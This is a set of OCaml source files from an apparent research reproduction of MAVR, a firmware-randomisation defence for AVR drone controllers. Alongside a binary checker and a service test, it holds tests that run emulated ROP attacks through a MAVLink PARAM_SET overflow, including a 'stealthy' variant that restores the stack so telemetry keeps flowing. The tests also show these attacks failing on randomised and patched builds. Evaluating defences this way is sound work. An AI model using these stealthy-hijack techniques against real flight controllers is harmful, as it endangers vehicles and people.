let context_at (img : Image.t) addr =
  if addr < 0 || addr land 1 <> 0 || addr + 2 > String.length img.code then ""
  else
    let len = min 12 (String.length img.code - addr) in
    let listing = Disasm.listing ~pos:addr ~len img.Image.code in
    String.concat "\n" (List.filteri (fun i _ -> i < 3) (String.split_on_char '\n' listing))

let finding img kind addr ?target detail =
  { kind; addr; target; detail; context = context_at img addr }

let make img kind addr ?target detail = finding img kind addr ?target detail

(* ---- transfer targets ------------------------------------------------ *)

let direct_target addr insn size =
  match insn with
  | Isa.Jmp a | Isa.Call a -> Some (2 * a)
  | Isa.Rjmp off | Isa.Rcall off -> Some (addr + size + (2 * off))
  | Isa.Brbs (_, off) | Isa.Brbc (_, off) -> Some (addr + size + (2 * off))
  | _ -> None

let check_transfers img cfg acc =
  let code = img.Image.code in
  let acc = ref acc in
  let check_target addr insn t ~what =
    let name = Isa.to_string insn in
    if not (Cfg.in_exec img t) then
      acc :=
        finding img Target_out_of_bounds addr ~target:t
          (Printf.sprintf "%s %s 0x%x lands outside the executable regions" name what t)
        :: !acc
    else begin
      (match Decode.decode_bytes code t with
      | Isa.Data w, _ ->
          acc :=
            finding img Target_undecodable addr ~target:t
              (Printf.sprintf "%s %s 0x%x decodes to raw word 0x%04x" name what t w)
            :: !acc
      | _ -> ());
      (* Only a two-word instruction starting one word earlier can
         straddle the target. *)
      match Cfg.insn_at cfg (t - 2) with
      | Some (_, 4) ->
          acc :=
            finding img Target_mid_instruction addr ~target:t
              (Printf.sprintf
                 "%s %s 0x%x lands inside the two-word instruction at 0x%x" name what t (t - 2))
            :: !acc
      | _ -> ()
    end
  in
  Cfg.iter_reachable cfg (fun addr insn size ->
      (match direct_target addr insn size with
      | Some t -> check_target addr insn t ~what:"target"
      | None -> ());
      match insn with
      | Isa.Cpse _ | Isa.Sbic _ | Isa.Sbis _ | Isa.Sbrc _ | Isa.Sbrs _ -> (
          match Cfg.successors ~code addr insn size with
          | [ _; skip ] when not (Cfg.in_exec img skip) ->
              acc :=
                finding img Target_out_of_bounds addr ~target:skip
                  (Printf.sprintf "%s skip lands outside the executable regions at 0x%x"
                     (Isa.to_string insn) skip)
                :: !acc
          | _ -> ())
      | _ -> ());
  !acc

(* ---- vector table ---------------------------------------------------- *)

let check_vectors (img : Image.t) acc =
  let acc = ref acc in
  for n = 0 to Device.Vector.count - 1 do
    let slot = Device.Vector.byte_addr n in
    if slot + 4 > img.exec_low_end then
      acc :=
        finding img Vector_not_jmp slot
          (Printf.sprintf "vector %d slot extends past the vector region (0x%x)" n
             img.exec_low_end)
        :: !acc
    else
      match Decode.decode_bytes img.code slot with
      | Isa.Jmp a, _ ->
          let t = 2 * a in
          if not (Image.is_function_start img t || t = slot) then
            acc :=
              finding img Vector_target_not_function slot ~target:t
                (Printf.sprintf "vector %d jumps to 0x%x, not a function start" n t)
              :: !acc
      | insn, _ ->
          acc :=
            finding img Vector_not_jmp slot
              (Printf.sprintf "vector %d holds %s, expected a 4-byte jmp slot" n
                 (Isa.to_string insn))
            :: !acc
  done;
  !acc

(* ---- stored function pointers (vtables / jump tables) ---------------- *)

let check_funptrs (img : Image.t) acc =
  let acc = ref acc in
  List.iter
    (fun loc ->
      match Cfg.funptr_target img loc with
      | None ->
          acc :=
            finding img Funptr_out_of_bounds loc
              (Printf.sprintf "function-pointer slot at 0x%x is truncated" loc)
            :: !acc
      | Some t ->
          (* Legal shapes: a function start in text, or a low-region
             trampoline — a [jmp] whose target is a function start (the
             >128 KB avr-gcc idiom; [icall] only reaches 16-bit word
             addresses). *)
          let trampoline_to_function =
            t + 4 <= img.exec_low_end
            &&
            match Decode.decode_bytes img.code t with
            | Isa.Jmp a, _ -> Image.is_function_start img (2 * a)
            | _ -> false
          in
          if not (Cfg.in_exec img t) then
            acc :=
              finding img Funptr_out_of_bounds loc ~target:t
                (Printf.sprintf
                   "function pointer at 0x%x aims at 0x%x, outside the executable regions" loc t)
              :: !acc
          else if not (Image.is_function_start img t || trampoline_to_function) then
            acc :=
              finding img Funptr_not_function loc ~target:t
                (Printf.sprintf
                   "function pointer at 0x%x aims at 0x%x, neither a function start nor a trampoline"
                   loc t)
              :: !acc)
    img.funptr_locs;
  !acc

(* ---- stack-pointer writes -------------------------------------------- *)

(* The old implementation pattern-matched idiom shapes inside ±3/±8
   instruction windows of the linear decode; it is replaced by the
   {!Stackdepth} data-flow facts: an [out SPL/SPH] is clean iff the
   written register provably holds an SP-relative or constant value on
   every path reaching the write.  [sts] to the SP's data-space aliases
   (io_base + SPL/SPH, 0x5D/0x5E on the megaAVR) is the same pivot
   primitive through the memory map and is never a compiler idiom. *)
let check_sp_writes img cfg acc =
  let acc = ref acc in
  let spl = Device.Io.spl and sph = Device.Io.sph in
  let io_base = Device.atmega2560.Device.io_base in
  let spl_mem = io_base + spl and sph_mem = io_base + sph in
  let classes = lazy (Stackdepth.sp_write_classes cfg) in
  Cfg.iter_reachable cfg (fun addr insn _size ->
      match insn with
      | Isa.Out (port, _) when port = spl || port = sph -> (
          let half = if port = spl then "SPL" else "SPH" in
          match Hashtbl.find_opt (Lazy.force classes) addr with
          | Some Stackdepth.Sp_relative | Some Stackdepth.Const_init -> ()
          | Some Stackdepth.Unknown_source ->
              acc :=
                finding img Stray_sp_write addr
                  (Printf.sprintf
                     "out %s at 0x%x writes a value with no SP-relative or constant provenance"
                     half addr)
                :: !acc
          | None ->
              acc :=
                finding img Stray_sp_write addr
                  (Printf.sprintf
                     "out %s at 0x%x is reached by no stack-depth analysis entry" half addr)
                :: !acc)
      | Isa.Sts (a, _) when a = spl_mem || a = sph_mem ->
          acc :=
            finding img Stray_sp_write addr
              (Printf.sprintf
                 "sts 0x%02x at 0x%x writes %s through its data-space alias (memory-mapped \
                  stack pivot)"
                 a addr
                 (if a = spl_mem then "SPL" else "SPH"))
            :: !acc
      | _ -> ());
  !acc

let run ?cfg img =
  let cfg = match cfg with Some c -> c | None -> Cfg.recover img in
  []
  |> check_transfers img cfg
  |> check_vectors img
  |> check_funptrs img
  |> check_sp_writes img cfg
  |> List.sort (fun a b -> compare (a.addr, a.kind) (b.addr, b.kind))

let to_json findings =
  Json.List
    (List.map
       (fun f ->
         Json.Obj
           ([ ("kind", Json.String (kind_name f.kind)); ("addr", Json.Int f.addr) ]
           @ (match f.target with Some t -> [ ("target", Json.Int t) ] | None -> [])
           @ [ ("detail", Json.String f.detail); ("context", Json.String f.context) ]))
       findings)

let pp_finding fmt f =
  Format.fprintf fmt "@[<v>[%s] at 0x%x%s: %s" (kind_name f.kind) f.addr
    (match f.target with Some t -> Printf.sprintf " -> 0x%x" t | None -> "")
    f.detail;
  if f.context <> "" then Format.fprintf fmt "@,%s" f.context;
  Format.fprintf fmt "@]"
