module Cpu = Mavr_avr.Cpu
module Io = Mavr_avr.Device.Io
module Image = Mavr_obj.Image
module Rop = Mavr_core.Rop
module Layout = Mavr_firmware.Layout

let send_and_run cpu ?(cycles = 2_000_000) frames =
  List.iter (Cpu.uart_send cpu) frames;
  Cpu.run cpu ~max_cycles:cycles

let gyro_cfg cpu =
  Cpu.data_peek cpu Layout.gyro_cfg lor (Cpu.data_peek cpu (Layout.gyro_cfg + 1) lsl 8)

let cfg_write obs value =
  Rop.write_u16 obs ~addr:Layout.gyro_cfg ~value ~neighbour:0

let test_analyze_finds_target () =
  let _, ti, _ = Helpers.attack_target () in
  Alcotest.(check int) "vulnerable msgid is PARAM_SET" 23 ti.vuln_msgid;
  Alcotest.(check bool) "gadgets located" true (ti.gadgets.stk_move > 0)

let test_observe_geometry () =
  let b, _, obs = Helpers.attack_target () in
  ignore b;
  Alcotest.(check int) "six saved bytes" 6 (String.length obs.saved_bytes);
  Alcotest.(check bool) "s0 near stack top" true
    (obs.s0 > Layout.stack_top - 64 && obs.s0 <= Layout.stack_top);
  Alcotest.(check int) "32 registers" 32 (Array.length obs.regs)

let test_v1_writes_then_crashes () =
  let b, ti, obs = Helpers.attack_target () in
  let cpu = Helpers.boot b.image in
  let r = send_and_run cpu (Rop.v1_basic ti obs ~writes:[ cfg_write obs 0x4000 ]) in
  Alcotest.(check int) "write landed" 0x4000 (gyro_cfg cpu);
  match r with
  | `Halted _ -> ()
  | `Budget_exhausted -> Alcotest.fail "V1 must destroy the stack and crash"

let test_v2_writes_and_survives () =
  let b, ti, obs = Helpers.attack_target () in
  let cpu = Helpers.boot b.image in
  ignore (Cpu.uart_take_tx cpu);
  let r = send_and_run cpu ~cycles:3_000_000 (Rop.v2_stealthy ti obs ~writes:[ cfg_write obs 0x4000 ]) in
  Alcotest.(check int) "write landed" 0x4000 (gyro_cfg cpu);
  Alcotest.(check string) "clean return: still running" "running" (Helpers.run_result_to_string r)

let test_v2_telemetry_uninterrupted () =
  let b, ti, obs = Helpers.attack_target () in
  let cpu = Helpers.boot b.image in
  List.iter (Cpu.uart_send cpu) (Rop.v2_stealthy ti obs ~writes:[ cfg_write obs 0x1234 ]);
  let r, frames, stats = Helpers.telemetry cpu ~cycles:3_000_000 in
  Alcotest.(check string) "running" "running" (Helpers.run_result_to_string r);
  Alcotest.(check int) "no CRC errors at GCS" 0 stats.crc_errors;
  Alcotest.(check int) "no garbage bytes at GCS" 0 stats.bytes_dropped;
  Alcotest.(check bool) "telemetry kept flowing" true (List.length frames > 20)

let test_v2_stack_fully_repaired () =
  (* At the instant the clean return lands back in the caller, the six
     smashed bytes hold their original values again.  (Later the region
     is legitimately reused by other call frames.) *)
  let b, ti, obs = Helpers.attack_target () in
  let cpu = Helpers.boot b.image in
  List.iter (Cpu.uart_send cpu) (Rop.v2_stealthy ti obs ~writes:[ cfg_write obs 1 ]);
  let byte i = Char.code obs.saved_bytes.[i] in
  let ret_target = ((byte 3 lsl 16) lor (byte 4 lsl 8) lor byte 5) * 2 in
  (match
     Cpu.run_until cpu ~max_cycles:3_000_000 (fun c ->
         Cpu.pc_byte_addr c = ret_target && gyro_cfg c = 1)
   with
  | `Pred -> ()
  | _ -> Alcotest.fail "clean return never happened");
  Alcotest.(check string) "saved bytes restored" obs.saved_bytes
    (Cpu.stack_slice cpu ~pos:(obs.s0 - 5) ~len:6);
  Alcotest.(check int) "SP back to caller level" obs.s0 (Cpu.sp cpu)

let test_v2_multiple_writes () =
  let b, ti, obs = Helpers.attack_target () in
  let cpu = Helpers.boot b.image in
  let writes =
    [
      { Rop.base = 0x7F0 - 1; bytes = (0x11, 0x22, 0x33) };
      { Rop.base = 0x7F4 - 1; bytes = (0x44, 0x55, 0x66) };
      cfg_write obs 0x0101;
    ]
  in
  let r = send_and_run cpu ~cycles:3_000_000 (Rop.v2_stealthy ti obs ~writes) in
  Alcotest.(check string) "running" "running" (Helpers.run_result_to_string r);
  Alcotest.(check int) "write 1" 0x11 (Cpu.data_peek cpu 0x7F0);
  Alcotest.(check int) "write 2" 0x66 (Cpu.data_peek cpu (0x7F4 + 2));
  Alcotest.(check int) "cfg" 0x0101 (gyro_cfg cpu)

let test_v2_write_limit () =
  let _, ti, obs = Helpers.attack_target () in
  let too_many = List.init 7 (fun i -> { Rop.base = 0x700 + i; bytes = (0, 0, 0) }) in
  match Rop.v2_stealthy ti obs ~writes:too_many with
  | _ -> Alcotest.fail "7 writes must be rejected"
  | exception Invalid_argument _ -> ()

let test_trigger_is_72_bytes () =
  let _, ti, obs = Helpers.attack_target () in
  match Rop.v2_stealthy ti obs ~writes:[] with
  | [ _staging; trigger ] ->
      (* frame = 6 header + payload + 2 crc *)
      Alcotest.(check int) "trigger payload length" Rop.trigger_len
        (String.length trigger - 8)
  | frames -> Alcotest.failf "expected 2 frames, got %d" (List.length frames)

let test_v3_stages_arbitrary_data () =
  let b, ti, obs = Helpers.attack_target () in
  let cpu = Helpers.boot b.image in
  let data = String.init 100 (fun i -> Char.chr ((i * 7) land 0xFF)) in
  let dest = Layout.free_region in
  let frames = Rop.v3_stage ti obs ~data ~dest in
  List.iter (fun f -> Cpu.uart_send cpu f; ignore (Cpu.run cpu ~max_cycles:300_000)) frames;
  let r = Cpu.run cpu ~max_cycles:500_000 in
  Alcotest.(check string) "alive after staging" "running" (Helpers.run_result_to_string r);
  Alcotest.(check string) "payload staged" data (Cpu.stack_slice cpu ~pos:dest ~len:100)

let test_v3_execute_big_chain () =
  let b, ti, obs = Helpers.attack_target () in
  let cpu = Helpers.boot b.image in
  let msg = "WAYPOINT:47.6205,-122.3493 WAYPOINT:37.4220,-122.0841 RTL:NEVER" in
  let dest = Layout.free_region + 0x400 in
  let writes =
    let n = String.length msg in
    let byte i = if i < n then Char.code msg.[i] else 0 in
    List.init ((n + 2) / 3) (fun k ->
        { Rop.base = dest + (3 * k) - 1; bytes = (byte (3 * k), byte ((3 * k) + 1), byte ((3 * k) + 2)) })
  in
  let frames = Rop.v3_execute ti obs ~chain_dest:Layout.free_region ~writes in
  List.iter (fun f -> Cpu.uart_send cpu f; ignore (Cpu.run cpu ~max_cycles:300_000)) frames;
  let r = Cpu.run cpu ~max_cycles:1_000_000 in
  Alcotest.(check string) "alive after execution" "running" (Helpers.run_result_to_string r);
  Alcotest.(check string) "all writes landed" msg
    (Cpu.stack_slice cpu ~pos:dest ~len:(String.length msg))

let test_big_chain_exceeds_single_volley () =
  (* The point of the trampoline: the staged chain is far larger than
     what fits in the 255-byte staging buffer. *)
  let _, ti, obs = Helpers.attack_target () in
  let writes = List.init 30 (fun i -> { Rop.base = 0x1C00 + (3 * i); bytes = (1, 2, 3) }) in
  let chain = Rop.big_chain_bytes ti obs ~writes in
  Alcotest.(check bool) "chain bigger than staging buffer" true
    (String.length chain > Layout.stage_len)

let test_attacks_fail_on_randomized () =
  let b, ti, obs = Helpers.attack_target () in
  let v2 = Rop.v2_stealthy ti obs ~writes:[ cfg_write obs 0x4000 ] in
  let v1 = Rop.v1_basic ti obs ~writes:[ cfg_write obs 0x4000 ] in
  for seed = 1 to 8 do
    let img = Mavr_core.Randomize.randomize ~seed b.image in
    List.iter
      (fun frames ->
        let cpu = Helpers.boot img in
        ignore (send_and_run cpu frames);
        Alcotest.(check bool)
          (Printf.sprintf "no write on seed %d" seed)
          false
          (gyro_cfg cpu = 0x4000))
      [ v2; v1 ]
  done

let test_attack_succeeds_on_unlucky_identity () =
  (* Sanity check of the experiment: if the "randomized" layout happens
     to be the original one, the attack must succeed — guessing the
     permutation is sufficient (§V-D's success criterion). *)
  let b, ti, obs = Helpers.attack_target () in
  let n = Image.function_count b.image in
  let identity = Mavr_core.Randomize.with_order b.image (Array.init n (fun i -> i)) in
  let cpu = Helpers.boot identity in
  ignore (send_and_run cpu ~cycles:3_000_000 (Rop.v2_stealthy ti obs ~writes:[ cfg_write obs 0x4000 ]));
  Alcotest.(check int) "attack works on identity layout" 0x4000 (gyro_cfg cpu)

let test_patched_firmware_immune () =
  (* With the length check restored the same frames do nothing. *)
  let patched = Helpers.build_patched () in
  let _, ti, obs = Helpers.attack_target () in
  let cpu = Helpers.boot patched.image in
  let r = send_and_run cpu ~cycles:3_000_000 (Rop.v2_stealthy ti obs ~writes:[ cfg_write obs 0x4000 ]) in
  Alcotest.(check string) "still running" "running" (Helpers.run_result_to_string r);
  Alcotest.(check bool) "no write" false (gyro_cfg cpu = 0x4000)

let () =
  Alcotest.run "rop"
    [
      ( "recon",
        [
          Alcotest.test_case "analyze" `Quick test_analyze_finds_target;
          Alcotest.test_case "observe geometry" `Quick test_observe_geometry;
        ] );
      ( "attacks",
        [
          Alcotest.test_case "V1 writes then crashes" `Quick test_v1_writes_then_crashes;
          Alcotest.test_case "V2 writes and survives" `Quick test_v2_writes_and_survives;
          Alcotest.test_case "V2 telemetry uninterrupted" `Quick test_v2_telemetry_uninterrupted;
          Alcotest.test_case "V2 stack repaired" `Quick test_v2_stack_fully_repaired;
          Alcotest.test_case "V2 multiple writes" `Quick test_v2_multiple_writes;
          Alcotest.test_case "V2 write limit" `Quick test_v2_write_limit;
          Alcotest.test_case "trigger geometry" `Quick test_trigger_is_72_bytes;
          Alcotest.test_case "V3 stages data" `Quick test_v3_stages_arbitrary_data;
          Alcotest.test_case "V3 executes big chain" `Quick test_v3_execute_big_chain;
          Alcotest.test_case "V3 chain exceeds buffer" `Quick test_big_chain_exceeds_single_volley;
        ] );
      ( "vs-defense",
        [
          Alcotest.test_case "attacks fail on randomized" `Slow test_attacks_fail_on_randomized;
          Alcotest.test_case "identity layout still vulnerable" `Quick
            test_attack_succeeds_on_unlucky_identity;
          Alcotest.test_case "patched firmware immune" `Quick test_patched_firmware_immune;
        ] );
    ]
