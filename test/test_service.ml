(* PR 10's service hardening: the accept loop survives transient
   Unix errors (the EINTR regression fix — a supervised worker catches
   plenty of signals mid-accept), a session can serve several requests,
   a client dying mid-heartbeat-stream does not take the server with
   it, and degenerate request lines (empty, blank, oversized) each get
   a terminal line without crashing anything. *)

module Service = Mavr_campaign.Service
module Json = Mavr_telemetry.Json

let tmp_sock name =
  let path = Filename.temp_file ("mavr_svc_" ^ name) ".sock" in
  Sys.remove path;
  at_exit (fun () -> try Sys.remove path with Sys_error _ -> ());
  path

let echo_handler req ~progress:_ = Ok req

(* Connect with retry: the serving domain/process needs a moment to
   bind. *)
let connect path =
  let deadline = Unix.gettimeofday () +. 10.0 in
  let rec go () =
    let fd = Unix.socket Unix.PF_UNIX Unix.SOCK_STREAM 0 in
    match Unix.connect fd (Unix.ADDR_UNIX path) with
    | () -> fd
    | exception Unix.Unix_error ((Unix.ECONNREFUSED | Unix.ENOENT | Unix.EINTR), _, _)
      when Unix.gettimeofday () < deadline ->
        (try Unix.close fd with Unix.Unix_error _ -> ());
        ignore (Unix.select [] [] [] 0.02);
        go ()
    | exception e ->
        (try Unix.close fd with Unix.Unix_error _ -> ());
        raise e
  in
  go ()

let with_conn path f =
  let fd = connect path in
  let ic = Unix.in_channel_of_descr fd and oc = Unix.out_channel_of_descr fd in
  Fun.protect
    ~finally:(fun () ->
      close_out_noerr oc;
      close_in_noerr ic)
    (fun () -> f ic oc)

let send_line oc line =
  output_string oc line;
  output_char oc '\n';
  flush oc

(* Read until the terminal kind-tagged line; return (heartbeat count,
   terminal json). *)
let read_terminal ic =
  let rec go hb =
    let line = input_line ic in
    match Json.of_string line with
    | Error e -> Alcotest.fail ("unparsable server line: " ^ e)
    | Ok j -> ( match Json.member "kind" j with Some _ -> (hb, j) | None -> go (hb + 1))
  in
  go 0

let kind j = Option.bind (Json.member "kind" j) Json.to_str
let err_msg j = Option.bind (Json.member "error" j) Json.to_str

(* ---- EINTR regression ------------------------------------------------ *)

(* Before the fix, any signal delivered while the server was blocked in
   [accept] made [serve] return [Error "Interrupted system call"] and
   the worker died.  Serve from a forked child with a no-op SIGUSR1
   handler, pelt it with signals mid-accept, then connect: pre-fix the
   child has already torn down (connect fails, exit status 1); post-fix
   the request is served and the child exits 0. *)
let test_accept_retries_eintr () =
  let socket = tmp_sock "eintr" in
  match Unix.fork () with
  | 0 ->
      Sys.set_signal Sys.sigusr1 (Sys.Signal_handle (fun _ -> ()));
      let status =
        match Service.serve ~socket ~max_requests:1 echo_handler with
        | Ok 1 -> 0
        | Ok _ | Error _ -> 1
      in
      Unix._exit status
  | pid ->
      (* wait until the child's socket is bound *)
      let deadline = Unix.gettimeofday () +. 10.0 in
      while (not (Sys.file_exists socket)) && Unix.gettimeofday () < deadline do
        ignore (Unix.select [] [] [] 0.02)
      done;
      Alcotest.(check bool) "server socket bound" true (Sys.file_exists socket);
      (* child is now blocked in accept; interrupt it repeatedly *)
      for _ = 1 to 3 do
        ignore (Unix.select [] [] [] 0.08);
        Unix.kill pid Sys.sigusr1
      done;
      ignore (Unix.select [] [] [] 0.08);
      let terminal =
        with_conn socket (fun ic oc ->
            send_line oc {|{"x":1}|};
            snd (read_terminal ic))
      in
      Alcotest.(check (option string)) "served after signals" (Some "result") (kind terminal);
      let _, status = Unix.waitpid [] pid in
      Alcotest.(check bool) "server exited cleanly" true (status = Unix.WEXITED 0)

(* ---- multi-request session ------------------------------------------- *)

let test_multi_request_session () =
  let socket = tmp_sock "multi" in
  let handler req ~progress =
    progress {|{"seq":0,"note":"hb"}|};
    Ok req
  in
  let d = Domain.spawn (fun () -> Service.serve ~socket ~max_requests:3 handler) in
  for k = 1 to 3 do
    with_conn socket (fun ic oc ->
        send_line oc (Printf.sprintf {|{"n":%d}|} k);
        let hb, terminal = read_terminal ic in
        Alcotest.(check int) "one heartbeat" 1 hb;
        Alcotest.(check (option string)) "result kind" (Some "result") (kind terminal);
        let n =
          Option.bind (Json.member "result" terminal) (fun r ->
              Option.bind (Json.member "n" r) Json.to_int)
        in
        Alcotest.(check (option int)) "request echoed" (Some k) n)
  done;
  match Domain.join d with
  | Ok n -> Alcotest.(check int) "three requests served" 3 n
  | Error e -> Alcotest.fail ("serve failed: " ^ e)

(* ---- dead client mid-heartbeat --------------------------------------- *)

let test_dead_client_mid_stream () =
  let socket = tmp_sock "deadclient" in
  (* Enough heartbeat volume to overrun any socket buffer, so the
     server is guaranteed to hit the write error once the client is
     gone. *)
  let flood_line = Printf.sprintf {|{"seq":1,"pad":%S}|} (String.make 256 'x') in
  let handler req ~progress =
    (match Json.member "flood" req with
    | Some _ -> for _ = 1 to 20_000 do progress flood_line done
    | None -> ());
    Ok req
  in
  let d = Domain.spawn (fun () -> Service.serve ~socket ~max_requests:2 handler) in
  (* client 1: request the flood, read one line, vanish *)
  let fd = connect socket in
  let oc = Unix.out_channel_of_descr fd in
  send_line oc {|{"flood":true}|};
  let ic = Unix.in_channel_of_descr fd in
  ignore (input_line ic);
  close_out_noerr oc;
  close_in_noerr ic;
  (* client 2: the server must still be alive and serve normally *)
  let terminal =
    with_conn socket (fun ic oc ->
        send_line oc {|{"n":2}|};
        snd (read_terminal ic))
  in
  Alcotest.(check (option string)) "server survived dead client" (Some "result") (kind terminal);
  match Domain.join d with
  | Ok n -> Alcotest.(check int) "both requests counted" 2 n
  | Error e -> Alcotest.fail ("serve failed: " ^ e)

(* ---- degenerate request lines ---------------------------------------- *)

let test_degenerate_requests () =
  let socket = tmp_sock "degenerate" in
  let d = Domain.spawn (fun () -> Service.serve ~socket ~max_requests:3 echo_handler) in
  (* (a) no request at all: client half-closes immediately *)
  let fd = connect socket in
  Unix.shutdown fd Unix.SHUTDOWN_SEND;
  let ic = Unix.in_channel_of_descr fd in
  let _, terminal = read_terminal ic in
  Alcotest.(check (option string)) "empty request kind" (Some "error") (kind terminal);
  Alcotest.(check (option string)) "empty request message" (Some "empty request")
    (err_msg terminal);
  close_in_noerr ic;
  (* (b) a blank line is a parse error, not a crash *)
  with_conn socket (fun ic oc ->
      send_line oc "";
      let _, terminal = read_terminal ic in
      Alcotest.(check (option string)) "blank line kind" (Some "error") (kind terminal);
      let is_bad_request =
        match err_msg terminal with
        | Some m -> String.length m >= 11 && String.sub m 0 11 = "bad request"
        | None -> false
      in
      Alcotest.(check bool) "blank line reported as bad request" true is_bad_request);
  (* (c) an oversized (multi-megabyte) request line round-trips *)
  with_conn socket (fun ic oc ->
      let pad = String.make (2 * 1024 * 1024) 'a' in
      send_line oc (Printf.sprintf {|{"pad":%S,"n":7}|} pad);
      let _, terminal = read_terminal ic in
      Alcotest.(check (option string)) "oversized request kind" (Some "result") (kind terminal);
      let n =
        Option.bind (Json.member "result" terminal) (fun r ->
            Option.bind (Json.member "n" r) Json.to_int)
      in
      Alcotest.(check (option int)) "oversized request echoed" (Some 7) n);
  match Domain.join d with
  | Ok n -> Alcotest.(check int) "all three degenerate requests served" 3 n
  | Error e -> Alcotest.fail ("serve failed: " ^ e)

let () =
  Alcotest.run "service"
    [
      ( "accept",
        [ Alcotest.test_case "EINTR mid-accept is retried" `Quick test_accept_retries_eintr ] );
      ( "sessions",
        [
          Alcotest.test_case "multi-request session" `Quick test_multi_request_session;
          Alcotest.test_case "dead client mid-heartbeat" `Quick test_dead_client_mid_stream;
          Alcotest.test_case "degenerate request lines" `Quick test_degenerate_requests;
        ] );
    ]
