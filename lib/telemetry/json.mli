(** Minimal JSON codec.

    The telemetry layer's machine-readable exports (registry snapshots,
    flight-recorder dumps, bench results) must be consumable by scripts
    without any external JSON dependency — the toolchain ships neither
    [yojson] nor [ezjsonm].  This is a small, total codec: every value the
    printer emits is parsed back structurally equal by {!of_string} (the
    round-trip property the test suite enforces). *)

type t =
  | Null
  | Bool of bool
  | Int of int
  | Float of float
  | String of string
  | List of t list
  | Obj of (string * t) list

(** [to_string ?indent v] renders [v]; [indent = 0] (default) is compact
    single-line output (JSONL-safe), a positive indent pretty-prints.
    Non-finite floats render as [null]. *)
val to_string : ?indent:int -> t -> string

(** [of_string s] parses a single JSON document (no trailing garbage). *)
val of_string : string -> (t, string) result

(** [member k v] is field [k] of object [v]. *)
val member : string -> t -> t option

(** [path ks v] walks nested objects. *)
val path : string list -> t -> t option

val to_int : t -> int option

(** [to_float] accepts both [Int] and [Float]. *)
val to_float : t -> float option

val to_str : t -> string option
