lib/avr/trace.mli: Cpu Format Isa
