open Mavr_asm.Assembler
module Isa = Mavr_avr.Isa
module Io = Mavr_avr.Device.Io

let i x = Insn x
let lbl s = Label s
let ldi r k = i (Isa.Ldi (r, k land 0xFF))
let lds r a = i (Isa.Lds (r, a))
let sts a r = i (Isa.Sts (a, r))
let call s = Call_sym s
let rjmp s = Rjmp_sym s
let breq s = Br (`Sbit Isa.Flag.z, s)
let brne s = Br (`Cbit Isa.Flag.z, s)
let brlo s = Br (`Sbit Isa.Flag.c, s)
let ret = i Isa.Ret

let label_copy_loop = "hps_copy"
let label_stk_move = "hps_teardown"
let label_write_mem = "ps_write_mem"
let label_write_mem_pops = "ps_pops"

let defines =
  [
    ("STACK_TOP", Layout.stack_top);
    ("DATA_VMA", Layout.data_vma);
    ("VTABLE_VMA", Layout.vtable_vma);
    ("STAGE", Layout.stage);
  ]

(* The CRC-16/MCRF4XX step (see Mavr_mavlink.Crc), operating on a pair of
   SRAM accumulator bytes.  Input byte in r24; clobbers r18, r19 and r0
   only (r20+ carry send_frame's arguments across these calls). *)
let crc_step_body ~lo ~hi =
  [
    lds 18 lo;
    i (Isa.Eor (18, 24)) (* tmp = byte ^ crc_lo *);
    i (Isa.Mov (19, 18));
    i (Isa.Swap 19);
    i (Isa.Andi (19, 0xF0));
    i (Isa.Eor (18, 19)) (* tmp ^= tmp << 4 *);
    i (Isa.Mov (19, 18));
    i (Isa.Swap 19);
    i (Isa.Andi (19, 0x0F)) (* tmp >> 4 *);
    lds 0 hi;
    i (Isa.Eor (19, 0)) (* ^ crc_hi *);
    i (Isa.Mov (0, 18));
    i (Isa.Add (0, 0));
    i (Isa.Add (0, 0));
    i (Isa.Add (0, 0)) (* (tmp << 3) & 0xff *);
    i (Isa.Eor (19, 0)) (* new crc_lo *);
    sts lo 19;
    i (Isa.Mov (19, 18));
    i (Isa.Swap 19);
    i (Isa.Andi (19, 0x0F));
    i (Isa.Lsr 19) (* tmp >> 5 *);
    i (Isa.Eor (19, 18)) (* new crc_hi *);
    sts hi 19;
    ret;
  ]

let fn_rx_crc_step = { name = "rx_crc_step"; items = crc_step_body ~lo:Layout.rxcrc_lo ~hi:Layout.rxcrc_hi }
let fn_tx_crc_step = { name = "tx_crc_step"; items = crc_step_body ~lo:Layout.txcrc_lo ~hi:Layout.txcrc_hi }

(* Look up CRC_EXTRA for the staged message id and fold it into the RX
   checksum.  Tail-calls rx_crc_step with an absolute jmp — one of the
   cross-function transfers the MAVR patcher must rewrite. *)
let fn_rx_finalize =
  {
    name = "rx_finalize";
    items =
      [
        Ldi_sym (30, Lo8, "crc_extra_tbl");
        Ldi_sym (31, Hi8, "crc_extra_tbl");
        lds 24 Layout.st_msgid;
        i (Isa.Add (30, 24));
        i (Isa.Adc (31, 1));
        i (Isa.Lpm (24, false));
        Jmp_sym "rx_crc_step";
      ];
  }

(* The MAVLink receive state machine, one byte (in r24) per call. *)
let fn_rx_byte =
  let set_state n = [ ldi 25 n; sts Layout.st_state 25 ] in
  {
    name = "rx_byte";
    items =
      [ lds 25 Layout.st_state; i (Isa.Cpi (25, 0)); brne "rb_not0" ]
      @ [ i (Isa.Cpi (24, 0xFE)); breq "rb_st0_magic"; rjmp "rb_done"; lbl "rb_st0_magic" ]
      @ set_state 1
      @ [ ldi 25 0xFF; sts Layout.rxcrc_lo 25; sts Layout.rxcrc_hi 25; rjmp "rb_done" ]
      @ [ lbl "rb_not0"; i (Isa.Cpi (25, 1)); brne "rb_not1" ]
      @ [ sts Layout.st_len 24; sts Layout.st_idx 1; call "rx_crc_step" ]
      @ set_state 2 @ [ rjmp "rb_done" ]
      @ [ lbl "rb_not1"; i (Isa.Cpi (25, 2)); brne "rb_not2"; call "rx_crc_step" ]
      @ set_state 3 @ [ rjmp "rb_done" ]
      @ [ lbl "rb_not2"; i (Isa.Cpi (25, 3)); brne "rb_not3"; call "rx_crc_step" ]
      @ set_state 4 @ [ rjmp "rb_done" ]
      @ [ lbl "rb_not3"; i (Isa.Cpi (25, 4)); brne "rb_not4"; call "rx_crc_step" ]
      @ set_state 5 @ [ rjmp "rb_done" ]
      @ [
          lbl "rb_not4";
          i (Isa.Cpi (25, 5));
          brne "rb_not5";
          sts Layout.st_msgid 24;
          call "rx_crc_step";
          lds 25 Layout.st_len;
          i (Isa.Cp (25, 1));
          brne "rb_to_payload";
          call "rx_finalize";
        ]
      @ set_state 7 @ [ rjmp "rb_done" ]
      @ [ lbl "rb_to_payload" ] @ set_state 6 @ [ rjmp "rb_done" ]
      @ [
          lbl "rb_not5";
          i (Isa.Cpi (25, 6));
          brne "rb_not6";
          (* STAGE[idx] <- byte *)
          lds 25 Layout.st_idx;
          Ldi_sym (30, Lo8, "STAGE");
          Ldi_sym (31, Hi8, "STAGE");
          i (Isa.Add (30, 25));
          i (Isa.Adc (31, 1));
